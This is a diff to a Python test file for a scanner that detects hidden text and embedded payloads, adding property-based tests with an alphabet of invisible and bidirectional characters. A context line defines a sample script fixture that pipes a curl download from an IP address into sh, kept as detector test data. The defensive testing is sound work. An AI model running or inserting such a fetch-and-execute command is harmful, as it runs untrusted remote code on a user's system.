@@ -2,10 +2,13 @@ import base64
 import random
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from memory_batches import monoid, texts
 
+from duecare.scan.columns import columns
 from duecare.scan.detectors.hidden_text import HiddenText
-from duecare.scan.unseen import with_long_runs
+from duecare.scan.unseen import hidden, payloads, suspects
 
 PROSE = "The quick brown fox jumps over the lazy dog and then it sleeps for a whole long day."
 SCRIPT = b"import os, socket\nos.system('curl http://203.0.113.9/x | sh')  # and some more text here to be long"
@@ -121,4 +124,18 @@ def test_merging_in_any_order_changes_nothing():
 def test_long_runs(at, length, found):
     rows = ["short", "é", ""]
     rows[at] = "x " * at + "A" * length
-    assert with_long_runs(rows) == ([at] if found else [])
+    held = columns(texts(*rows))
+    assert suspects(held)[1] == ([held.texts.index(rows[at])] if found else [])
+
+
+ODD = "aZ \n\x00\x7f\x85éЖаα\u0370\u04ff\u200b\u2028\u202e\u2066\u2060\ufe0f\ufeff你\U000e0041\U000e0101😀\ud800="
+
+
+@given(st.lists(st.text(ODD, min_size=1, max_size=12), min_size=1, max_size=6), st.sampled_from([1, 9, 90]))
+def test_what_is_passed_over_hides_nothing(rows, times):
+    rows = [row * times for row in rows]
+    held = columns(texts(*rows))
+    odd, long = suspects(held)
+    for number, text in enumerate(held.texts):
+        assert number in odd or not list(hidden(text))
+        assert number in long or not list(payloads(text))
